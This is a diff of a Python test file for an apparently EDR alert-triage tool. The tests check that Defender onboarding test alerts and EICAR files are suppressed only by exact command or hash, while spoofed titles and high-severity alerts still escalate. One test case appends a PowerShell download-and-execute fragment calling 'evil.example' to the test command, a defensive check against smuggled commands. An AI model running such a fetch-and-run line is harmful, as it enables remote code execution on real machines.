@@ -11,8 +11,17 @@ from typing import Any
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from signatures import (
+    DOCUMENTED_COMMAND,
+    EICAR_MD5,
+    EICAR_SHA1,
+    EICAR_SHA256,
+    TEST_TITLE,
+    reshaped,
+)
 
 from edrtrial.connectors.base import AlertRecord, DeviceRef
+from edrtrial.connectors.defender.evidence import graph_evidence, mde_evidence
 from edrtrial.playbooks import (
     AlertFacts,
     Decision,
@@ -20,6 +29,7 @@ from edrtrial.playbooks import (
     default_playbook_paths,
     load_playbooks,
 )
+from edrtrial.playbooks.checks import warnings
 from edrtrial.timeutil import parse_iso
 
 FIXTURES = Path(__file__).parent / "fixtures"
@@ -69,6 +79,7 @@ def graph_record(alert: dict[str, Any]) -> AlertRecord:
         service_source=alert.get("serviceSource") or "",
         mitre_techniques=tuple(alert.get("mitreTechniques") or ()),
         devices=devices,
+        evidence=graph_evidence(alert.get("evidence") or ()),
         raw=alert,
     )
 
@@ -86,23 +97,13 @@ def mde_record(alert: dict[str, Any]) -> AlertRecord:
         detection_source=alert.get("detectionSource") or "",
         mitre_techniques=tuple(alert.get("mitreTechniques") or ()),
         devices=(DeviceRef(alert["machineId"], alert.get("computerDnsName") or ""),),
+        evidence=mde_evidence(alert),
         raw=alert,
     )
 
 
 def graph_alert() -> dict[str, Any]:
     return copy.deepcopy(payload("graph__list_alerts_v2.json")["value"][0])
-
-
-def as_detection_test(alert: dict[str, Any], title: str, severity: str) -> dict[str, Any]:
-    """The documented alert reshaped as the onboarding test's alert (defender-api.md §7)."""
-    return alert | {
-        "title": title,
-        "severity": severity,
-        "category": "Execution",
-        "detectionSource": "microsoftDefenderForEndpoint",
-        "mitreTechniques": ["T1059.001"],
-    }
 
 
 def payload_cases() -> list[Any]:
@@ -129,8 +130,8 @@ def payload_cases() -> list[Any]:
         ),
         pytest.param(
             graph_record(
-                as_detection_test(
-                    graph, "[Test Alert] Suspicious Powershell commandline", "informational"
+                reshaped(
+                    graph, title=TEST_TITLE, severity="informational", command=DOCUMENTED_COMMAND
                 )
             ),
             test,
@@ -140,19 +141,67 @@ def payload_cases() -> list[Any]:
             mde_record(
                 mde
                 | {
-                    "title": "[Test Alert] Suspicious Powershell commandline",
+                    "title": TEST_TITLE,
                     "severity": "Informational",
                     "category": "Execution",
+                    "detectionSource": "WindowsDefenderAtp",
                     "mitreTechniques": ["T1059.001"],
+                    "evidence": [
+                        {"entityType": "Process", "processCommandLine": DOCUMENTED_COMMAND}
+                    ],
                 }
             ),
             test,
             id="mde-onboarding-test-pascalcase",
         ),
         pytest.param(
-            graph_record(as_detection_test(graph, "Suspicious PowerShell command line", "medium")),
+            graph_record(reshaped(graph, title=TEST_TITLE, severity="informational")),
+            ("P4", False, False, False, None, False, ("informational",)),
+            id="graph-test-title-without-the-test-command-is-not-the-test",
+        ),
+        pytest.param(
+            graph_record(
+                reshaped(graph, title="Suspicious PowerShell command line", severity="medium")
+            ),
             ("P2", True, True, False, None, False, ("medium-severity",)),
-            id="graph-medium-companion-goes-to-the-desk",
+            id="graph-medium-powershell-goes-to-the-desk",
+        ),
+        pytest.param(
+            graph_record(
+                reshaped(
+                    graph,
+                    title="Suspicious PowerShell command line",
+                    severity="medium",
+                    command=DOCUMENTED_COMMAND,
+                )
+            ),
+            ("P2", True, True, False, None, False, ("medium-severity",)),
+            id="graph-medium-companion-of-the-test-goes-to-the-desk",
+        ),
+        pytest.param(
+            graph_record(
+                reshaped(
+                    graph,
+                    title="'EICAR_Test_File' malware was prevented",
+                    severity="informational",
+                    category="Malware",
+                    file_sha256=EICAR_SHA256,
+                )
+            ),
+            ("P4", False, False, False, "test-file", True, ("security-test-file",)),
+            id="graph-eicar-file-by-its-hash",
+        ),
+        pytest.param(
+            graph_record(
+                reshaped(
+                    graph,
+                    title="Credential theft: 'eicar' read LSASS memory",
+                    severity="high",
+                    category="CredentialAccess",
+                )
+            ),
+            ("P1", True, True, True, None, False, ("credential-theft", "high-severity")),
+            id="graph-eicar-in-a-high-credential-theft-title-is-not-a-test",
         ),
     ]
 
@@ -201,22 +250,62 @@ def synthetic_cases() -> list[Any]:
             dict(
                 title="[Test Alert] Suspicious Powershell commandline",
                 severity="Informational",
+                detection_source="MicrosoftDefenderForEndpoint",
                 mitre_techniques=("T1059.001",),
+                command_lines=(DOCUMENTED_COMMAND,),
             ),
             test,
             ("onboarding-detection-test",),
         ),
         case(
-            "test-alert-at-medium-still-stops",
-            dict(title="[Test Alert] Suspicious Powershell commandline", severity="Medium"),
-            ("P2", *test[1:]),
+            "test-alert-without-its-prefix-is-known-by-its-command",
+            dict(
+                title="Suspicious Powershell commandline",
+                severity="informational",
+                detection_source="microsoftDefenderForEndpoint",
+                command_lines=("rundll32.exe x.dll", DOCUMENTED_COMMAND),
+            ),
+            test,
             ("onboarding-detection-test",),
         ),
         case(
-            "test-alert-without-prefix-informational",
-            dict(title="Suspicious Powershell commandline", severity="informational"),
-            test,
-            ("onboarding-detection-test-untagged",),
+            "test-title-without-the-command-is-report-only",
+            dict(title="[Test Alert] Suspicious Powershell commandline", severity="Informational"),
+            p4,
+            ("informational",),
+        ),
+        case(
+            "test-command-with-more-appended-is-not-the-test",
+            dict(
+                title="[Test Alert] Suspicious Powershell commandline",
+                severity="Informational",
+                detection_source="microsoftDefenderForEndpoint",
+                command_lines=(DOCUMENTED_COMMAND + ";IEX (iwr https://evil.example/a)",),
+            ),
+            p4,
+            ("informational",),
+        ),
+        case(
+            "test-command-from-a-custom-detection-is-not-the-test",
+            dict(
+                title="[Test Alert] Suspicious Powershell commandline",
+                severity="Informational",
+                detection_source="customDetection",
+                command_lines=(DOCUMENTED_COMMAND,),
+            ),
+            p4,
+            ("informational",),
+        ),
+        case(
+            "test-title-at-medium-goes-to-the-desk",
+            dict(
+                title="[Test Alert] Suspicious Powershell commandline",
+                severity="Medium",
+                detection_source="microsoftDefenderForEndpoint",
+                command_lines=(DOCUMENTED_COMMAND,),
+            ),
+            p2_desk,
+            ("medium-severity",),
         ),
         case(
             "eicar",
@@ -224,15 +313,48 @@ def synthetic_cases() -> list[Any]:
                 title="'EICAR_Test_File' malware was prevented",
                 severity="Informational",
                 category="Malware",
+                file_hashes=(EICAR_SHA1, EICAR_SHA256),
             ),
             test_file,
             ("security-test-file",),
         ),
         case(
-            "eicar-even-at-high",
-            dict(title="EICAR test file detected", severity="High"),
-            ("P1", *test_file[1:]),
+            "eicar-by-md5-at-low",
+            dict(
+                title="Virus:DOS/EICAR_Test_File",
+                severity="Low",
+                category="Malware",
+                file_hashes=(EICAR_MD5,),
+            ),
+            ("P3", *test_file[1:]),
             ("security-test-file",),
+        ),
+        case(
+            "eicar-title-without-the-file-is-not-a-test",
+            dict(title="'EICAR_Test_File' malware was prevented", severity="Low"),
+            p3,
+            ("low-severity",),
+        ),
+        case(
+            "eicar-file-in-a-high-alert-is-not-a-test",
+            dict(
+                title="EICAR test file detected",
+                severity="High",
+                category="Malware",
+                file_hashes=(EICAR_SHA256,),
+            ),
+            P1_ALL,
+            ("high-severity",),
+        ),
+        case(
+            "eicar-in-a-high-credential-theft-title",
+            dict(
+                title="Credential theft: 'eicar' dumped LSASS",
+                severity="High",
+                category="CredentialAccess",
+            ),
+            P1_ALL,
+            ("credential-theft", "high-severity"),
         ),
         case(
             "ransomware-category",
@@ -504,3 +626,46 @@ def test_suppressed_alerts_never_ticket_or_notify(
         assert not (decision.ticket or decision.notify_desk or decision.notify_company)
     if decision.notify_desk or decision.notify_company:
         assert decision.ticket  # nobody is told about something the desk has no ticket for
+
+
+def test_the_shipped_table_suppresses_nothing_on_free_text_alone() -> None:
+    for path in default_playbook_paths():
+        assert warnings(load_playbooks([path])) == [], path
+
+
+_WORDS = st.sampled_from(
+    ["[Test Alert]", "eicar", "EICAR_Test_File", "amtso", "test", "Suspicious PowerShell", "x"]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    words=st.lists(_WORDS, min_size=1, max_size=4),
+    severity=st.sampled_from(["High", "medium", "MEDIUM", "high"]),
+    category=_CATEGORIES,
+    source=st.sampled_from(["microsoftDefenderForEndpoint", "antivirus", "customDetection"]),
+    mitre=_TECHNIQUES,
+)
+def test_no_words_in_a_medium_or_high_alert_make_it_disappear(
+    playbook: Playbook,
+    words: list[str],
+    severity: str,
+    category: str,
+    source: str,
+    mitre: tuple[str, ...],
+) -> None:
+    title = " ".join(words)
+    facts = AlertFacts(
+        title=title,
+        severity=severity,
+        category=category,
+        detection_source=source,
+        mitre_techniques=mitre,
+        command_lines=(f"powershell.exe -c {title}",),
+        file_hashes=(EICAR_SHA256,),
+        company_key="acme-kogyo",
+        business_hours=False,
+    )
+    decision = playbook.evaluate(facts)
+    assert decision.suppressed_reason is None
+    assert decision.ticket and decision.notify_desk and not decision.mark_device_verified
